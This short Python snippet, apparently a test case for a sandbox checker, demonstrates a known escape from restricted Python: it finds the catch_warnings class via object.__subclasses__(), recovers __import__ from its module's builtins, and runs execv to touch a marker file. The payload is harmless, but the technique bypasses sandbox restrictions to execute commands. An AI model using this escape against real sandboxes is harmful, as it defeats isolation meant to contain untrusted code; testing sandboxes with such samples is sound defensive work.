# __import__ from catch_warnings' module builtins, then execv
cw = [c for c in object.__subclasses__() if c.__name__ == 'catch_warnings'][0]
imp = cw()._module.__builtins__['__import__']
imp('os').execv('/usr/bin/touch', ['touch', 'ran_catch_warnings'])
